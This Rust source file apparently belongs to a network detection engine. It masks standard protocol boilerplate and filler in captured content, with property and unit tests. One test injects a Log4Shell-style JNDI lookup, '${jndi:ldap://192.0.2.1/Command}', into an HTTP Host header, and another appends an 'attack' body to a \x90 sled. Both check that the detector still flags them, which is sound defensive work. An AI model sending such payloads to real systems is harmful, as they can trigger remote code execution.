//! How much of a content is boilerplate of a protocol.
//!
//! The literals are in `engine/baseline/*.txt`, a file a protocol, each line a quoted
//! string and why it is there. They are masked in the grown content, where they stand
//! whole or cut off by its ends. Letters match in either case. So is filler (see
//! [`filler`]).

use super::{SuppressedList, filler};
use crate::state::persist;
use aho_corasick::{AhoCorasick, MatchKind};
use std::collections::BTreeMap;

/// The files, by name, and the name of what needs no literals.
const SHIPPED: [(&str, &str); 13] = [
    ("http", include_str!("../../../baseline/http.txt")),
    ("tls", include_str!("../../../baseline/tls.txt")),
    ("x509", include_str!("../../../baseline/x509.txt")),
    ("ssh", include_str!("../../../baseline/ssh.txt")),
    ("smb", include_str!("../../../baseline/smb.txt")),
    ("names", include_str!("../../../baseline/names.txt")),
    ("ping", include_str!("../../../baseline/ping.txt")),
    ("mail", include_str!("../../../baseline/mail.txt")),
    ("sip", include_str!("../../../baseline/sip.txt")),
    ("peers", include_str!("../../../baseline/peers.txt")),
    ("services", include_str!("../../../baseline/services.txt")),
    ("http2", include_str!("../../../baseline/http2.txt")),
    ("filler", ""),
];

/// What covers filler.
const FILLER: LiteralFile = LiteralFile(SHIPPED.len() - 1);

/// A file of literals.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, PartialOrd, Ord)]
pub struct LiteralFile(usize);

persist!(LiteralFile { 0 });

impl LiteralFile {
    /// Its name: the protocols that it is about.
    pub fn name(self) -> &'static str {
        // Only a saved state of other literals could hold another place.
        SHIPPED.get(self.0).map_or("other", |(name, _)| *name)
    }
}

/// The least bytes of a literal, and of one that an end of the content cuts off: four
/// stand in 16 KiB of random bytes once in 250,000 times.
const LEAST: usize = 4;

/// The strings that a protocol's standard makes everybody send.
#[derive(Debug)]
pub struct Boilerplate {
    automaton: AhoCorasick,
    /// Each literal and its file.
    literals: Vec<(Vec<u8>, LiteralFile)>,
}

/// What of a content is boilerplate.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Covered {
    /// A byte each: whether it lies in a literal.
    pub known: Vec<bool>,
    /// Files whose literals cover bytes, and how many.
    pub by: BTreeMap<LiteralFile, usize>,
}

impl Covered {
    /// The longest run of bytes in no literal.
    pub fn longest_unknown(&self) -> usize {
        self.known.split(|known| *known).map(<[bool]>::len).max().unwrap_or(0)
    }

    /// Whether what is left is too little to stand by itself, windows being of `beta`
    /// bytes: no unknown run of more than beta / 2 bytes, and less unknown than known in
    /// all; less than a third of it where filler covers most.
    ///
    /// A window alarmed because all of it recurs. While unknown runs are no longer than
    /// beta / 2, boilerplate is at least half of each such window (but for windows with
    /// two runs and a short literal between them, which the second part is for): the
    /// window recurs because the protocol does. The values of common headers fit; what
    /// does harm needs more room, or is cut into pieces around literals of its own size.
    /// Filler costs a sender nothing and says nothing of a protocol, so more of it is
    /// asked for: a window of 40 is filler with up to nine other bytes.
    pub fn is_all(&self, beta: usize) -> bool {
        let unknown = self.known.iter().filter(|known| !**known).count();
        let known = self.known.len() - unknown;
        let times = if self.mostly() == Some(FILLER) { 3 } else { 1 };
        self.longest_unknown() <= beta / 2 && times * unknown < known
    }

    /// The file that covers most, the first of equals.
    pub fn mostly(&self) -> Option<LiteralFile> {
        let most = self.by.values().max()?;
        self.by.iter().find(|(_, bytes)| *bytes == most).map(|(file, _)| *file)
    }
}

impl Boilerplate {
    /// The literals that come with the engine.
    pub fn shipped() -> Self {
        Self::parse(&SHIPPED).expect("a test reads the shipped files")
    }

    /// Reads files of literals: `(name, text)`.
    ///
    /// # Errors
    ///
    /// The first line that is no literal: its file, number, and what is expected.
    fn parse(files: &[(&'static str, &str)]) -> Result<Self, String> {
        let mut literals = Vec::new();
        for (index, (file, text)) in files.iter().enumerate() {
            for (number, line) in text.lines().enumerate() {
                if line.trim().is_empty() || line.starts_with('#') {
                    continue;
                }
                let literal = literal(line)
                    .map_err(|reason| format!("{file}, line {}: {reason}", number + 1))?;
                literals.push((literal, LiteralFile(index)));
            }
        }
        let automaton = AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::Standard)
            .build(literals.iter().map(|(literal, _)| literal))
            .map_err(|error| error.to_string())?;
        Ok(Self { automaton, literals })
    }

    /// Lays all literals over a content, and notes its filler.
    pub fn cover(&self, content: &[u8]) -> Covered {
        let mut found = Vec::new();
        for it in self.automaton.find_overlapping_iter(content) {
            found.push((it.range(), self.literals[it.pattern().as_usize()].1));
        }
        for (literal, file) in &self.literals {
            if let Some(length) = cut_by_start(content, literal) {
                found.push((0..length, *file));
            }
            if let Some(length) = cut_by_end(content, literal) {
                found.push((content.len() - length..content.len(), *file));
            }
        }
        found.extend(filler::stretches(content).into_iter().map(|it| (it, FILLER)));
        // Longer ones first, so that a byte counts for the literal that says most.
        found.sort_by_key(|(range, file)| {
            (std::cmp::Reverse(range.len()), range.start, *file)
        });
        let mut covered =
            Covered { known: vec![false; content.len()], by: BTreeMap::new() };
        for (range, file) in found {
            let bytes = &mut covered.known[range];
            let new = bytes.iter().filter(|known| !**known).count();
            bytes.fill(true);
            if new > 0 {
                *covered.by.entry(file).or_default() += new;
            }
        }
        covered
    }

    /// Bytes that it takes, and a full list of what it kept back.
    pub fn memory_bytes(&self) -> usize {
        let literals = self.literals.iter().map(|(literal, _)| literal.capacity() + 32);
        self.automaton.memory_usage()
            + literals.sum::<usize>()
            + SuppressedList::MOST_BYTES
    }

    /// The literals, each with its file.
    pub fn literals(&self) -> impl Iterator<Item = (&[u8], LiteralFile)> {
        self.literals.iter().map(|(literal, file)| (&literal[..], *file))
    }
}

/// The longest end of the literal, short of all, that the content begins with.
fn cut_by_start(content: &[u8], literal: &[u8]) -> Option<usize> {
    (LEAST..literal.len()).rev().find(|length| {
        content.len() >= *length
            && content[..*length].eq_ignore_ascii_case(&literal[literal.len() - length..])
    })
}

/// The longest beginning of the literal, short of all, that the content ends with.
fn cut_by_end(content: &[u8], literal: &[u8]) -> Option<usize> {
    (LEAST..literal.len()).rev().find(|length| {
        content.len() >= *length
            && content[content.len() - length..].eq_ignore_ascii_case(&literal[..*length])
    })
}

/// `"text" | why`, with the escapes \r \n \t \0 \\ \" \xHH.
fn literal(line: &str) -> Result<Vec<u8>, String> {
    let wrong = || "expected \"literal\" | why".to_owned();
    let mut rest = line.strip_prefix('"').ok_or_else(wrong)?.chars();
    let mut bytes = Vec::new();
    loop {
        match rest.next().ok_or_else(wrong)? {
            '"' => break,
            '\\' => bytes.push(match rest.next().ok_or_else(wrong)? {
                'r' => b'\r',
                'n' => b'\n',
                't' => b'\t',
                '0' => 0,
                '\\' => b'\\',
                '"' => b'"',
                'x' => {
                    let digits: String = rest.by_ref().take(2).collect();
                    let byte = u8::from_str_radix(&digits, 16);
                    byte.map_err(|_| format!("expected two hex digits, found {digits}"))?
                }
                other => return Err(format!("there is no escape \\{other}")),
            }),
            plain if plain.is_ascii() => bytes.push(plain as u8),
            other => return Err(format!("{other} is to be written as \\x")),
        }
    }
    let why = rest.as_str().strip_prefix(" | ").ok_or_else(wrong)?;
    if why.trim().is_empty() {
        return Err(wrong());
    }
    if bytes.len() < LEAST {
        return Err(format!("expected {LEAST} bytes or more, found {}", bytes.len()));
    }
    Ok(bytes)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// The slow twin: every literal, and every part of one at an end, at every place.
    fn naive(boilerplate: &Boilerplate, content: &[u8]) -> Vec<bool> {
        let mut known: Vec<bool> =
            (0..content.len()).map(|at| filler::is_filler(content, at)).collect();
        for (literal, _) in boilerplate.literals() {
            for start in -(literal.len() as i64)..content.len() as i64 {
                let inside: Vec<(usize, u8)> = (start..)
                    .zip(literal)
                    .filter(|(at, _)| (0..content.len() as i64).contains(at))
                    .map(|(at, byte)| (at as usize, *byte))
                    .collect();
                let fits =
                    inside.iter().all(|(at, b)| content[*at].eq_ignore_ascii_case(b));
                let cut_at_both =
                    start < 0 && start + literal.len() as i64 > content.len() as i64;
                if fits && inside.len() >= LEAST && !cut_at_both {
                    inside.iter().for_each(|(at, _)| known[*at] = true);
                }
            }
        }
        known
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]
        #[test]
        fn the_mask_is_that_of_a_naive_search(
            pieces in prop::collection::vec(
                (any::<prop::sample::Index>(), any::<prop::sample::Index>(),
                 prop::collection::vec(any::<u8>(), 0..12)), 1..6),
        ) {
            let shipped = Boilerplate::shipped();
            let all: Vec<Vec<u8>> = shipped.literals().map(|(l, _)| l.to_vec()).collect();
            let mut content = Vec::new();
            for (which, cut, rest) in pieces {
                let literal = &all[which.index(all.len())];
                content.extend(&literal[cut.index(literal.len())..]);
                content.extend(rest);
            }
            let covered = shipped.cover(&content);
            prop_assert_eq!(&covered.known, &naive(&shipped, &content));
            let counted: usize = covered.by.values().sum();
            prop_assert_eq!(counted, covered.known.iter().filter(|k| **k).count());
        }
    }

    #[test]
    fn the_shipped_files_are_well_formed_and_repeat_nothing() {
        let shipped = Boilerplate::parse(&SHIPPED).unwrap();
        let mut seen = std::collections::BTreeSet::new();
        for (literal, file) in shipped.literals() {
            assert!(seen.insert(literal), "{file:?}: twice: {}", literal.escape_ascii());
        }
        assert!(shipped.memory_bytes() < 1 << 20, "{}", shipped.memory_bytes());
    }

    #[test]
    fn a_wrong_line_is_named() {
        for (line, part) in [
            ("GET", "expected \"literal\" | why"),
            ("\"GET / HTTP\"", "expected \"literal\" | why"),
            ("\"\\q....\" | why", "no escape \\q"),
            ("\"\\xZZ....\" | why", "two hex digits"),
            ("\"GET\" | why", "4 bytes or more, found 3"),
        ] {
            let error = Boilerplate::parse(&[("some", &format!("# head\n{line}"))]);
            let error = error.unwrap_err();
            assert!(
                error.starts_with("some, line 2: ") && error.contains(part),
                "{error}"
            );
        }
    }

    #[test]
    fn headers_are_all_boilerplate_and_an_attack_in_one_is_not() {
        let shipped = Boilerplate::shipped();
        let head = "GET / HTTP/1.1\r\nHost: example.org\r\nAccept: */*\r\n\
                    Accept-Encoding: gzip, deflate\r\nConnection: keep-alive\r\n\r\n";
        let covered = shipped.cover(head.as_bytes());
        assert!(covered.is_all(40));
        assert_eq!(covered.mostly().map(LiteralFile::name), Some("http"));
        let attack = head.replace("example.org", "${jndi:ldap://192.0.2.1/Command}");
        assert!(!shipped.cover(attack.as_bytes()).is_all(40));
        assert!(!shipped.cover(b"19 unknown bytes...").is_all(40));
    }

    /// What the protocols that everybody speaks begin with, in the bytes that programs
    /// send, with names and numbers of their own.
    #[test]
    fn the_beginnings_of_common_protocols_are_boilerplate() {
        let shipped = Boilerplate::shipped();
        let text =
            |literal: &str| super::literal(&format!("\"{literal}\" | it")).unwrap();
        let zeros = |n| vec![0; n];
        let ssh_tail = text(concat!(
            r"\x00\x00\x00\x15none,zlib@openssh.com\x00\x00\x00\x15none,zlib@openssh.com",
            r"\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00",
        ));
        let http2 = text(concat!(
            r"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x12\x04\x00\x00\x00\x00\x00",
            r"\x00\x03\x00\x00\x00\x64\x00\x04\x00\x01\x00\x00\x00\x02\x00\x00\x00\x00",
        ));
        let grpc = text(concat!(
            r"\x00\x00\x3e\x01\x04\x00\x00\x00\x01\x83\x86\x45\x8ashop.C/Add\x41\x88",
            r"10.1.2.3\x5f\x8b\x1d\x75\xd0\x62\x0d\x26\x3d\x4c\x4d\x65\x64",
            r"\x40\x02te\x86\x4d\x83\x35\x05\xb1\x1f",
        ));
        let mailslot = text(concat!(
            r"\xffSMB\x25\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00",
            r"\x11\x00\x00\x21\x00\x00\x00\x00\x00\x00\x00\x00\x00\xe8\x03\x00\x00\x00\x00",
            r"\x00\x00\x00\x00\x21\x00\x56\x00\x03\x00\x01\x00\x00\x00\x02\x00\x32\x00",
            r"\\MAILSLOT\\BROWSE\x00\x01\x00",
        ));
        let spnego = text(concat!(
            r"\x60\x48\x06\x06\x2b\x06\x01\x05\x05\x02\xa0\x3e\x30\x3c\xa0\x0e\x30\x0c",
            r"\x06\x0a\x2b\x06\x01\x04\x01\x82\x37\x02\x02\x0a\xa2\x2a\x04\x28",
            r"NTLMSSP\x00\x01\x00\x00\x00\x97\x82\x08\xe2",
        ));
        let mut dhcp = text(r"\x01\x01\x06\x00\x3d\x1d\x99\x01");
        dhcp.extend(zeros(20));
        dhcp.extend(text(r"\x00\x0b\x82\x01\xfc\x42"));
        dhcp.extend(zeros(202));
        dhcp.extend(text(r"\x63\x82\x53\x63\x35\x01\x01\x3d\x07\x01"));
        let mut ntp = text(r"\xe3\x00\x03\xfa\x00\x01\x00\x00\x00\x01\x00\x00");
        ntp.extend(zeros(28));
        let date = text(concat!(
            r"\r\nDate: Fri, 01 Mar 2024 10:20:30 GMT\r\n",
            r"Content-Type: text/html; charset=UTF-8\r\n",
        ));
        for content in [ssh_tail, http2, grpc, mailslot, spnego, dhcp, ntp, date] {
            let covered = shipped.cover(&content);
            assert!(
                covered.is_all(40),
                "{}: {} unknown in a row",
                content.escape_ascii(),
                covered.longest_unknown()
            );
        }
    }

    #[test]
    fn few_bytes_in_filler_are_filler_and_more_are_not() {
        let shipped = Boilerplate::shipped();
        for unit in [&b"\0"[..], b"\xff", b"AB", b"\x90\x90\x00", b"12345678"] {
            let filler = unit.repeat(40 / unit.len() + 1);
            for strange in [&b"\x2a"[..], b"Q7*", b"t0&bR.4;x"] {
                let before = [strange, &filler].concat();
                let behind = [&filler, strange].concat();
                for content in [before, behind] {
                    let covered = shipped.cover(&content);
                    assert!(covered.is_all(40), "{}", content.escape_ascii());
                    assert_eq!(covered.mostly(), Some(FILLER));
                }
            }
            // A body of thirty bytes behind a slide stays a body.
            let body: Vec<u8> = (0..30_u8).map(|n| n.wrapping_mul(73) ^ 0x5a).collect();
            let attack = [&filler[..], &body].concat();
            assert!(!shipped.cover(&attack).is_all(40));
            // Nor do fifteen bytes pass for filler by being padded to a window.
            let padded = [&body[..15], &filler[..25]].concat();
            assert!(!shipped.cover(&padded).is_all(40));
        }
    }
}
